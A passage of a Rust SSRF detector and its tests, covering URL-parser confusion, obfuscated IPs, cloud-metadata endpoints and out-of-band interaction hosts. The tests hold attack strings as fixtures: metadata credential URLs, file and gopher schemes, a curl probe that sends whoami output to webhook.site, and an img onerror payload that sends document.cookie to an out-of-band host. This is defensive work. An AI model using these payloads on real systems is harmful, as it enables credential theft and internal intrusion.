            b"http" | b"https" | b"ftp" | b"ftps" | b"ws" | b"wss"
        );
        if authority_url && obfuscated && network {
            return span("ssrf.obfuscated_host");
        }
        // The network behind a VPC function: as much a target as loopback. (Scheme-relative
        // `//10.0.0.5/` stays a paranoia-2 finding: prose and paths write `//` too.)
        if authority_url && target == Target::Private {
            return span("ssrf.private_address");
        }
        // `http://a#@evil/`, `http://a?@evil/`: parsers that end the authority at the first
        // `@` rather than at `#`/`?` read another host.
        let delimited_user =
            matches!(b.get(end), Some(b'#' | b'?')) && b.get(end + 1) == Some(&b'@');
        if authority_url
            && (confusing_user(authority) || backslash_user(&b[end..limit]) || delimited_user)
        {
            return span("ssrf.url_confusion");
        }
        if authority_url && other_reading(b, host_start, end, limit, names) {
            return span("ssrf.url_confusion");
        }
    }
    None
}

/// Whether a URL parser other than the standard one reads an internal host in the authority
/// at `host_start..end` (the standard reading: the host after the last `@`, which was not
/// internal). Parsers disagree on where the user part ends and what follows the port
/// (Orange Tsai, "A New Era of SSRF", 2017), and an attacker writes a URL each of them reads
/// differently:
/// - the first host, before any user part ends (`http://127.0.0.1:80+&@example.com/`): what
///   parsers that stop at the first delimiter fetch;
/// - past markup characters no filter expects in a user name (`http://a)b>c@127.1/`): Python's
///   `urlsplit` ends the authority at `/` only;
/// - after an `@` past a blank, `#` or `?` (`http://a.com:80 &@127.0.0.1:22/`,
///   `http://a.com#+@127.0.0.1/`): parsers that read on to the last `@`.
fn other_reading(b: &[u8], host_start: usize, end: usize, limit: usize, names: bool) -> bool {
    let internal =
        |host: &[u8]| classify_host(&fold_host(split_port(host).0), names) != Target::Other;
    let authority = &b[host_start..end];
    if memchr::memchr(b'@', authority).is_some() {
        let first = match authority.first() {
            Some(b'[') => memchr::memchr(b']', authority).map_or(0, |e| e + 1),
            _ => authority
                .iter()
                .position(|c| {
                    c.is_ascii() && !(c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_'))
                })
                .unwrap_or(authority.len()),
        };
        if first > 0 && internal(&authority[..first]) {
            return true;
        }
    }
    let (blank, query) = match b.get(end) {
        Some(b'<' | b'>' | b'`') => (true, false),
        Some(b' ' | b'#') => (false, false),
        Some(b'?') => (false, true),
        _ => return false,
    };
    let mut to = b[end..limit]
        .iter()
        .position(|c| {
            matches!(c, b'/' | b'\\' | b'\n' | b'\t' | b'\r')
                || (blank && matches!(c, b' ' | b'"' | b'\''))
        })
        .map_or(limit, |p| end + p);
    if query {
        // A parameter's value is no authority (`?to=bob@10.0.0.5` is an address).
        to = memchr::memchr(b'=', &b[end..to]).map_or(to, |p| end + p);
    }
    memchr::memchr_iter(b'@', &b[end..to]).take(8).any(|at| {
        let rest = &b[end + at + 1..to];
        let host_end = rest
            .iter()
            .position(|c| matches!(c, b' ' | b'#' | b'&' | b'@' | b'?' | b'<' | b'>' | b'`'))
            .unwrap_or(rest.len());
        internal(&rest[..host_end])
    })
}

/// An authority whose user part makes parsers disagree on the host, or makes a person read the
/// wrong one: two `@`, an encoded delimiter (`example.com%2f@evil.example`: decoded, the host
/// part ends before `@`), or a user name that is a host name (`bank.com@evil.example`).
fn confusing_user(authority: &[u8]) -> bool {
    let Some(at) = memchr::memrchr(b'@', authority) else {
        return false;
    };
    let user = &authority[..at];
    if memchr::memchr(b'@', user).is_some() {
        return true;
    }
    // A password may need encoded delimiters; a user name that has them is hiding a host.
    let name = user.split(|c| *c == b':').next().unwrap_or_default();
    let encoded = [&b"%2f"[..], b"%5c", b"%3f", b"%23"];
    if encoded.iter().any(|e| find(name, e).is_some()) {
        return true;
    }
    if name.len() < user.len() {
        return false; // `user:password@`
    }
    // `1.1.1.1&@2.2.2.2`: a host with a delimiter glued on, then the real one.
    let user = user.trim_ascii_end();
    let user = user
        .strip_suffix(b"&")
        .or_else(|| user.strip_suffix(b";"))
        .unwrap_or(user);
    if parse_ipv4_loose(std::str::from_utf8(user).unwrap_or_default()).is_some()
        && user.contains(&b'.')
    {
        return true;
    }
    let mut labels = user.split(|c| *c == b'.');
    let last = labels.next_back().unwrap_or_default();
    let hostlike = user
        .split(|c| *c == b'.')
        .all(|l| !l.is_empty() && l.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'-'));
    hostlike
        && labels.next().is_some()
        && ((last.len() == 2 && last.iter().all(u8::is_ascii_alphabetic))
            || USER_TLDS.contains(&last))
}

/// `http://evil.example\@bank.com/`: WHATWG parsers end the host at `\` (`evil.example`),
/// others read `evil.example\` as the user part and `bank.com` as the host.
fn backslash_user(after: &[u8]) -> bool {
    if after.first() != Some(&b'\\') {
        return false;
    }
    let stop = after[1..]
        .iter()
        .position(|c| matches!(c, b'/' | b'?' | b'#' | b'\\') || c.is_ascii_whitespace())
        .map_or(after.len(), |p| p + 1);
    memchr::memchr(b'@', &after[1..stop]).is_some()
}

/// A name under an out-of-band interaction service ([`OUT_OF_BAND`]), as a whole label
/// sequence: `x.oastify.com`, not `oastify.community`.
fn out_of_band(b: &[u8]) -> Option<Hit> {
    for service in OUT_OF_BAND {
        let n = service.as_bytes();
        for p in find_iter(b, n) {
            let before = p.checked_sub(1).map(|i| b[i]);
            let after = b.get(p + n.len()).copied();
            let label = |c: Option<u8>| c.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'-');
            if !label(after) && (before == Some(b'.') || !label(before)) {
                let start = b[..p]
                    .iter()
                    .rposition(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'-' | b'.')))
                    .map_or(0, |i| i + 1);
                return Some(Hit::new("ssrf.out_of_band", start, p + n.len()));
            }
        }
    }
    None
}

fn split_port(hostport: &[u8]) -> (&[u8], Option<&[u8]>) {
    if hostport.first() == Some(&b'[') {
        return match memchr::memchr(b']', hostport) {
            Some(e) => {
                let port = hostport.get(e + 1..).and_then(|r| r.strip_prefix(b":"));
                (&hostport[..=e], port)
            }
            None => (hostport, None),
        };
    }
    // The host ends at the first colon: what follows a port (`:80:80`, `:80;x`) names no
    // other host.
    match memchr::memchr(b':', hostport) {
        Some(c) => (&hostport[..c], Some(&hostport[c + 1..])),
        None => (hostport, None),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::subject::test_subject;
    use proptest::prelude::*;
    use proptest::sample::select;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(20000))]

        /// The links `named_link` spares `urls` and `remote_include` are links they find
        /// nothing in: hosts made of address parts, hex words, target names and rebinding
        /// services.
        #[test]
        fn named_links_hold_no_target(
            scheme in select(vec!["http://", "https://", "HTTPS://", "ftp://", "http:/"]),
            labels in prop::collection::vec(select(vec![
                "localhost", "127", "0", "1", "255", "0x7f", "0x7F", "0177", "169", "254",
                "a9fea9fe", "2852039166", "7147006462", "nip", "io", "sslip", "metadata",
                "google", "internal", "instance-data", "shop", "example", "com", "x", "10",
                "192", "168", "fd00", "ec2", "ggg", "xn--80ak6aa92e", "svc", "beef", "-", "_",
            ]), 1..6),
            path in select(vec![
                "", "/", "/p/5", "/latest/meta-data/", "//evil.example", "/a_b", "/x.php?",
            ]),
            query in select(vec!["", "?a=b", "?ref=feed&lang=en", "?u=localhost", ":9001"]),
            names in any::<bool>(),
        ) {
            let v = format!("{scheme}{}{path}{query}", labels.join(".")).to_ascii_lowercase();
            let plain = !names && crate::inspect::subject::plain_url(v.as_bytes());
            if named_link(v.as_bytes(), plain) {
                prop_assert!(urls(v.as_bytes(), names).is_none(), "{v}");
                prop_assert!(remote_include(v.as_bytes()).is_none(), "{v}");
            }
        }
    }

    fn rule(text: &str) -> Option<&'static str> {
        test_subject(text, 1, detect).map(|h| h.rule)
    }

    /// Found by review: every occurrence of a metadata address is weighed, and a remote
    /// include's host is read past `user@` and before `:port`.
    #[test]
    fn later_occurrences_and_authorities() {
        let cases = [
            ("host 169.254.169.2549 or 169.254.169.254", "ssrf.metadata"),
            ("fd00:ec2::2540 fd00:ec2::254", "ssrf.metadata"),
            ("https://evil.example:8080/x.txt?", "ssrf.remote_include"),
            ("http://u@203.0.113.9/shell.txt", "ssrf.remote_include"),
        ];
        for (a, r) in cases {
            assert_eq!(rule(a), Some(r), "{a}");
        }
        assert_eq!(rule("http://user@example.com:8080/page"), None);
    }

    #[test]
    fn loose_ipv4() {
        let ip = |s| parse_ipv4_loose(s).map(|i| i.to_string());
        assert_eq!(ip("2852039166").as_deref(), Some("169.254.169.254"));
        assert_eq!(ip("0xa9fea9fe").as_deref(), Some("169.254.169.254"));
        assert_eq!(
            ip("0251.0376.0251.0376").as_deref(),
            Some("169.254.169.254")
        );
        assert_eq!(ip("169.254.43518").as_deref(), Some("169.254.169.254"));
        assert_eq!(ip("127.1").as_deref(), Some("127.0.0.1"));
        assert_eq!(ip("example.com"), None);
        assert_eq!(ip("256.1.1.1"), None);
    }

    #[test]
    fn attacks() {
        for (a, r) in [
            (
                "http://169.254.169.254/latest/meta-data/iam/",
                "ssrf.metadata",
            ),
            ("http://2852039166/", "ssrf.metadata"),
            ("\\\\evil.example\\share\\x.dll", "ssrf.unc_path"),
            ("path=\\\\10.0.0.5\\x", "ssrf.unc_path"),
            ("\\\\attacker@SSL@443\\dav", "ssrf.unc_path"),
            ("\\\\srv\\ADMIN$\\system32", "ssrf.unc_path"),
            ("\\\\::1\\c$\\users\\default\\ntuser.dat", "ssrf.unc_path"),
            ("\\\\fe80::1\\docs", "ssrf.unc_path"),
            ("\\\\.\\pipe\\evil", "ssrf.unc_path"),
            ("\\\\?\\UNC\\host\\share", "ssrf.unc_path"),
            ("http://0xa9fea9fe/latest", "ssrf.metadata"),
            ("http://[::ffff:169.254.169.254]/", "ssrf.metadata"),
            ("http://[::ffff:a9fe:a9fe]/", "ssrf.metadata"),
            ("http://[fd00:ec2::254]/latest/", "ssrf.metadata"),
            ("http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/", "ssrf.metadata"),
            ("http://user@169.254.169.254:80/", "ssrf.metadata"),
            (
                "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next",
                "ssrf.lambda_runtime",
            ),
            ("localhost:9001", "ssrf.lambda_runtime"),
            ("http://localhost/admin", "ssrf.loopback"),
            ("http://127.1:8000/", "ssrf.loopback"),
            (
                "<a href=\"http://1113982867/\">x</a>",
                "ssrf.obfuscated_host",
            ),
            ("http://0x42.0x66.0x7.0x93/", "ssrf.obfuscated_host"),
            (
                "fetch http://0102.0146.0007.00000223/",
                "ssrf.obfuscated_host",
            ),
            ("http://3232235777/admin", "ssrf.obfuscated_host"),
            ("http://425.510.425.510/", "ssrf.metadata"),
            ("http://264.264.264.264/", "ssrf.obfuscated_host"),
            ("http://10.0.0.1/internal", "ssrf.private_address"),
            ("https://192.168.1.20:8443/admin", "ssrf.private_address"),
            ("see http://172.16.4.2/status", "ssrf.private_address"),
            ("https://10.1:8443/", "ssrf.obfuscated_host"),
            ("http://８.８.８.８/", "ssrf.obfuscated_host"),
            ("http://[::1]/", "ssrf.loopback"),
            ("file:///etc/passwd", "ssrf.scheme"),
            ("gopher://127.0.0.1:6379/_SET", "ssrf.scheme"),
            ("rmi://evil.example:1099/Exploit", "ssrf.scheme"),
            (
                "http://ip-10-0-1-23.ec2.internal:8080/admin",
                "ssrf.private_address",
            ),
            (
                "https://kubernetes.default.svc/api/v1/secrets",
                "ssrf.private_address",
            ),
            (
                "http://redis.cache.svc.cluster.local:6379/",
                "ssrf.private_address",
            ),
            ("iiop://evil.example/x", "ssrf.scheme"),
            ("corbaname:iiop:evil.example:1050#x", "ssrf.scheme"),
            ("dict://localhost:11211/stat", "ssrf.scheme"),
            (
                "host.docker.internal/v1.41/containers/json",
                "ssrf.loopback",
            ),
            ("LocalHost:6379", "ssrf.loopback"),
            ("localhost./admin", "ssrf.loopback"),
            ("10.0.0.1.nip.io", "ssrf.private_address"),
            (
                "customer1.app.10.0.0.1.xip.io:8080/x",
                "ssrf.private_address",
            ),
            ("app-192-168-1-7.sslip.io", "ssrf.private_address"),
            ("metadata.packet.net/userdata", "ssrf.metadata"),
            ("http://203.0.113.9/shell.txt", "ssrf.remote_include"),
            ("ftp://198.51.100.4", "ssrf.remote_include"),
            (
                "https://[2001:db8:701::29c8]/gecko.php",
                "ssrf.remote_include",
            ),
            ("https://[2001:db8::7]:8443/x", "ssrf.remote_include"),
            (
                "https://2001:db8:701::29c8/gecko.php",
                "ssrf.remote_include",
            ),
            ("https://evil.example/x.txt?", "ssrf.remote_include"),
            ("http://169.254.169.254.nip.io/", "ssrf.metadata"),
            ("http:127.0.0.1", "ssrf.loopback"),
            ("http:0xa9fea9fe", "ssrf.metadata"),
            ("http:/2852039166", "ssrf.metadata"),
            ("https:\\\\169.254.169.254/latest", "ssrf.metadata"),
            ("http://7147006462/", "ssrf.metadata"),
            ("pop3://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ", "ssrf.loopback"),
            ("http://[fd00:ec2::23]/v1/credentials", "ssrf.metadata"),
            (
                "/v2/credentials/1d6b8c1c-aaaa-4b0e-9c8e-3c1e2a0f5d11",
                "ssrf.metadata",
            ),
            ("http://169.254.170.2/v2/credentials/x", "ssrf.metadata"),
            (
                "/metadata/identity/oauth2/token?resource=x",
                "ssrf.metadata",
            ),
            ("http://evil.example/latest/meta-data/", "ssrf.metadata"),
            ("http://[::ffff:0:a9fe:a9fe]/", "ssrf.metadata"),
            (
                "http://localhost:2773/secretsmanager/get",
                "ssrf.lambda_runtime",
            ),
            ("//2852039166/latest", "ssrf.metadata"),
            ("//127.0.0.1/admin", "ssrf.loopback"),
            (" //localhost:9001/", "ssrf.lambda_runtime"),
            (
                "http://google.com:80 &@127.88.23.245:22/# @google.com:80/",
                "ssrf.url_confusion",
            ),
            (
                "http://google.com:80 &@google.com:80# @127.88.23.245:22/",
                "ssrf.url_confusion",
            ),
        ] {
            assert_eq!(rule(a), Some(r), "{a}");
        }
    }

    fn at(path: &str, text: &str) -> Option<&'static str> {
        crate::inspect::subject::rule_at(detect, text, crate::trigger::FieldRole::Value, path)
    }

    #[test]
    fn loopback_redirects_and_origins_no_server_fetches_pass() {
        for (path, v) in [
            (
                "$.queryStringParameters.redirect_uri",
                "http://127.0.0.1:51234/oauth/callback",
            ),
            ("$.queryStringParameters.redirect_uri", "http://[::1]:8400/"),
            ("$.body.redirect_uris[0]", "http://localhost:3000/callback"),
            ("$.body.redirectUri", "http://localhost"),
            ("$.headers.origin", "http://localhost:3000"),
            ("$.headers.Origin", "https://127.0.0.1:8443"),
            (
                "$.multiValueHeaders.referer[0]",
                "http://localhost:5173/cart?step=2",
            ),
        ] {
            assert_eq!(at(path, v), None, "false positive on {path}={v}");
        }
        for (path, v, r) in [
            // Anything but a plain loopback URL, or a loopback URL elsewhere.
            (
                "$.queryStringParameters.redirect_uri",
                "http://169.254.169.254/latest/meta-data/",
                "ssrf.metadata",
            ),
            (
                "$.queryStringParameters.redirect_uri",
                "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next",
                "ssrf.lambda_runtime",
            ),
            (
                "$.queryStringParameters.redirect_uri",
                "http://127.0.0.1:8400/cb?next=http://169.254.169.254/",
                "ssrf.loopback",
            ),
            (
                "$.queryStringParameters.redirect_uri",
                "http://127.0.0.1@evil.example/",
                "ssrf.url_confusion",
            ),
            (
                "$.queryStringParameters.callback_url",
                "http://127.0.0.1:8400/",
                "ssrf.loopback",
            ),
            (
                "$.body.redirect_uri.x",
                "http://localhost:3000/",
                "ssrf.loopback",
            ),
            (
                "$.queryStringParameters.redirect_uri",
                "https://localhost/",
                "ssrf.loopback",
            ),
            (
                "$.headers.origin",
                "http://localhost:3000/%2e%2e/admin",
                "ssrf.loopback",
            ),
            (
                "$.headers.referer",
                "http://localhost:9001/",
                "ssrf.lambda_runtime",
            ),
            (
                "$.headers.x-origin",
                "http://localhost:3000",
                "ssrf.loopback",
            ),
        ] {
            assert_eq!(at(path, v), Some(r), "{path}={v}");
        }
    }

    #[test]
    fn remote_urls_in_include_root_parameters() {
        for (path, v) in [
            (
                "$.queryStringParameters.mosConfig_absolute_path",
                "https://foo.bar",
            ),
            ("$.body.GALLERY_BASEDIR", "http://evil.example/"),
            (
                "$.queryStringParameters.phpbb_root_path",
                "ftp://x.example/a",
            ),
            ("$.body['_CONF[path]']", "http://evil.example/x"),
        ] {
            assert_eq!(at(path, v), Some("ssrf.remote_include"), "{path}={v}");
        }
        for (path, v) in [
            (
                "$.queryStringParameters.image_path",
                "https://cdn.example.com/a.png",
            ),
            (
                "$.queryStringParameters.redirect_uri",
                "https://example.com/cb",
            ),
            ("$.body.absolute_path", "/var/www/html"),
            ("$.body.docroot", "see https://example.com"),
        ] {
            assert_eq!(at(path, v), None, "false positive on {path}={v}");
        }
    }

    #[test]
    fn ordinary_urls_pass() {
        for b in [
            "0x../",
            "\\\\fileserver\\team\\q3.xlsx",
            "\\\\C:\\data\\q3.xlsx",
            "the regex \\\\d+\\.\\d matches",
            "C:\\Users\\a\\\\b.txt",
            "ab..cd/x",
            "https://example.com/a/b?c=d",
            // REST paths that ECS's and Azure's metadata services share, on a named host.
            "https://chat.twilio.com/v2/Credentials/CRaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            "https://api.example.com/metadata/instance/42",
            "meeting at 12:30",
            "profile: file attached",
            "urn:uuid:1234",
            "mailto:someone@example.com",
            "https://api.example.com:8443/v1",
            "https://user:secret@example.com:8443/v1",
            "https://deadbeef:8443/cafe",
            "version 1.2.3.4",
            "https://example.com/v/1.2.300.4",
            "build 425.510.425.510 shipped",
            "localhost is where the heart is",
            "my.localhost.example.com",
            "https://example.com/search?",
            "127.0.0.1",
            "https://cdn.example.com/p?a=1",
            "http:example.com",
            "read the http: and https: sections",
            "see http://example.com/a and email me@example.org",
            "order 12345678901 shipped",
            "http://12345678901/",
            "myapp://12345/item",
            "// TODO: fix",
            "//cdn.example.com/a.js",
            "a//b/c",
            "https://user:p%2fss@example.com/",
            "ssh://git@github.com/org/repo",
            "https://john.doe@example.com/",
            "https://a@b.com@",
            "see oastify.community and interact.shop",
            "mywebhook.site.example.com and keyes.shop",
            "http://example.com/img\\icon@2x.png",
            "https://example.com?ref=user@example.com",
            "https://example.com/#@mention",
            "https://bob:p&ss@example.com/",
            "RMI: remote method invocation",
            "HTTP:80/index.html",
            "HTTPS:443/health",
            "kubernetes.default.svc is the API server",
            "https://example.com/Service.svc/rest",
            "http://internal/",
            "names under .internal are private",
            "corbaname is a CORBA name",
        ] {
            assert_eq!(rule(b), None, "false positive on {b}");
        }
    }

    /// Readings of one authority that URL parsers disagree on (cujanovic/SSRF-Testing's
    /// `ip.py` shapes, written here with other hosts, ports and user parts): an internal host
    /// in any of them is found.
    #[test]
    fn every_parser_reading_of_an_authority() {
        for (url, r) in [
            // What follows a port names no other host.
            ("http://0251.0376.0251.0376:8080:80/", "ssrf.metadata"),
            ("http://127.0.0.2:81;cdn.example.org:443/", "ssrf.loopback"),
            ("ftp://0x7f.1:21,mail.example.org/", "ssrf.loopback"),
            ("x://[::ffff:127.0.0.1]:22,example.org/", "ssrf.loopback"),
            // A zone, raw or as decoding left it.
            ("http://[::169.254.169.254%eth0]/", "ssrf.metadata"),
            ("http://[::ffff:a9fe:a9fe$6]/", "ssrf.metadata"),
            // The first host, before the user part ends.
            (
                "http://0x7f000001:443+&@example.org#+@example.org/",
                "ssrf.url_confusion",
            ),
            ("http://[::1]:9000+&@example.org/", "ssrf.url_confusion"),
            ("https://10.1.2.3&@example.org/", "ssrf.url_confusion"),
            // Past markup in the user part: Python's `urlsplit` ends it at `/` only.
            ("http://a(b)c>d@2130706433:8080/", "ssrf.url_confusion"),
            ("http://q<w>e@example.org@0177.1/", "ssrf.url_confusion"),
            (
                "http://x`y@example.org:@169.254.169.254/",
                "ssrf.url_confusion",
            ),
            // On to the last `@`, past `#`.
            (
                "http://example.org+&@example.org#+@127.0.0.1:8000/",
                "ssrf.url_confusion",
            ),
            (
                "http://example.org#x@425.510.425.510/",
                "ssrf.url_confusion",
            ),
        ] {
            assert_eq!(rule(url), Some(r), "{url}");
        }
        for benign in [
            "https://user:secret@example.com:8443/v1",
            "https://example.com?to=bob@10.0.0.5",
            "https://example.com/?next=a@127.0.0.1",
            "<a href=https://example.com>mail me</a> at bob@localhost",
            "https://example.com:8443:8443/",
            "http://[2001:db8::1%eth0]/",
            "https://admin:pa(ss)@example.com/",
        ] {
            assert_eq!(rule(benign), None, "false positive on {benign}");
        }
    }

    #[test]
    fn confusing_user_parts_and_out_of_band_names() {
        for url in [
            "http://example.com%2f@evil.example/",
            "http://bank.com@evil.example/login",
            "https://www.paypal.co.uk@198.51.100.9/",
            "http://evil.example\\@bank.com/",
            "http://a@b@c.example/",
            "http://1.1.1.1&@2.2.2.2#@3.3.3.3/",
            "http://example.com#@evil.example/",
            "https://example.com?@evil.example/",
        ] {
            assert_eq!(rule(url), Some("ssrf.url_confusion"), "{url}");
        }
        for probe in [
            "http://x1y2.oastify.com/a",
            "abc.burpcollaborator.net",
            "curl https://webhook.site/6b1f0c2e-1d3a?d=$(whoami)",
            "<img src=x onerror=fetch('//x.eyes.sh/'+document.cookie)>",
            "nslookup q.interact.sh",
            "\\\\z.dnslog.cn\\a",
        ] {
            assert_eq!(rule(probe), Some("ssrf.out_of_band"), "{probe}");
        }
    }
}
